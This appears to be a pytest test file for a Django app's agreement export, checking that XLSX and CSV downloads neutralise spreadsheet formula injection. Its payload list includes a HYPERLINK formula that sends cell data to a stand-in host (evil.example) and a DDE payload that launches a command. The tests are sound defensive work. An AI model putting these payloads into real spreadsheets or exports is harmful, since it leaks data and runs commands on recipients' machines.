"""The afspraken export under attack (issue 14, point 5): formula-like text stays text.

An afspraak whose text is `=HYPERLINK("http://evil.example/?x="&A1,"klik")` must not arrive
as a live formula in the spreadsheet of the colleague who downloads the list.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from afspraken.models import Afspraak
from tests.wereld import paginawereld

pytestmark = pytest.mark.django_db

AANVALLEN = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def vergiftigd(client):
    opbouw = paginawereld(len(AANVALLEN))
    for afspraak, aanval in zip(
        Afspraak.objects.filter(overeenkomst=opbouw.overeenkomst).order_by("pk"),
        AANVALLEN,
        strict=True,
    ):
        Afspraak.objects.filter(pk=afspraak.pk).update(
            inhoud=aanval, resultaat=aanval, doel=aanval, periode=aanval
        )
    client.force_login(opbouw.gemeente_gebruiker)
    return reverse("afspraken:afspraak-export", kwargs={"overeenkomst_pk": opbouw.overeenkomst.pk})


def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(client, vergiftigd):
    response = client.get(vergiftigd, {"formaat": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cellen = [cel for rij in sheet.iter_rows() for cel in rij]
    assert not [cel.coordinate for cel in cellen if cel.data_type == "f"]
    teksten = {cel.value for cel in cellen}
    # The text itself is unchanged: it reads back as what was written.
    assert set(AANVALLEN) <= teksten


def test_csv_export_prefixes_formula_like_text_with_an_apostrophe(client, vergiftigd):
    response = client.get(vergiftigd, {"formaat": "csv"})
    rijen = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cellen = [cel for rij in rijen[1:] for cel in rij]
    vergiftigde = [cel for cel in cellen if cel.lstrip("'") in AANVALLEN]
    assert len(vergiftigde) == 4 * len(AANVALLEN)
    assert all(cel.startswith("'") for cel in vergiftigde)
    assert not [cel for cel in cellen if cel[:1] in ("=", "+", "-", "@", "\t", "\r")]
